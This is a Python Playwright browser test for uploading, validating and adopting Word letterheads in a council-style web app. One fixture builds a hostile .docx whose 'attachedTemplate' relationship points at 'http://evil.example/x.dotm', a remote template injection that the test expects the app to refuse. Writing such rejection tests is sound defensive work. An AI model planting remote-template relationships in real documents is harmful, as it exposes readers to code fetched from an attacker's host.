"""A letterhead in a real browser: uploaded, refused with words at the field, told about, used; wide and narrow."""

from __future__ import annotations

import os
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from browser.looking import NARROW, WIDE, faults_of
from browser.serving import COORDINATOR
from documents.hostile import related
from documents.letterheads import theme_fonts, with_logo
from playwright.sync_api import expect

if TYPE_CHECKING:
    from collections.abc import Callable

    from playwright.sync_api import Page

pytestmark = pytest.mark.browser

LIST = "/partnerships/demo/letterheads"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def _check(page: Page, name: str) -> None:
    faults = faults_of(page)
    assert not faults, "\n".join(faults)
    if folder := os.environ.get("PICTURES"):  # to be looked at by eye
        for width, height in (WIDE, NARROW):
            page.set_viewport_size({"width": width, "height": height})
            page.screenshot(path=Path(folder) / f"{name}-{width}.png", full_page=True)


def _upload(page: Page, name: str, content: bytes) -> None:
    page.get_by_label("Name of the letterhead").fill(name)
    page.get_by_label("Word file").set_input_files({"name": "letter.docx", "mimeType": WORD, "buffer": content})
    page.get_by_role("button", name="Upload and see what is found").click()


@pytest.mark.parametrize("has_script", [True, False])
def test_a_coordinator_takes_a_letterhead_from_upload_to_use(visit: Callable[..., Page], has_script: bool) -> None:  # noqa: FBT001
    mark = "with script" if has_script else "plain"
    page = visit(LIST, COORDINATOR, has_script=has_script, expected=("400",))
    page.get_by_role("button", name="Add a letterhead").click()
    if has_script:
        _check(page, "add")
    _upload(page, f"Hostile {mark}", related("attachedTemplate", "http://evil.example/x.dotm", "settings"))
    expect(page.locator(".govuk-error-summary")).to_contain_text("fetches a template")
    if has_script:
        _check(page, "refused")
    _upload(page, f"Council {mark}", with_logo() if has_script else theme_fonts())
    expect(page.get_by_role("heading", level=1)).to_have_text(f"Council {mark}")
    if has_script:
        _check(page, "found")
    page.get_by_role("button", name="Use it for all documents").click()
    expect(page.locator("main")).to_contain_text("In use")
    page.goto(LIST)
    expect(page.get_by_role("row", name=f"Council {mark}")).to_contain_text("In use")
    if has_script:
        _check(page, "list")
        page.get_by_role("link", name=f"Council {mark}").click()
        page.get_by_role("button", name="Replace the file").click()
        _check(page, "replace")
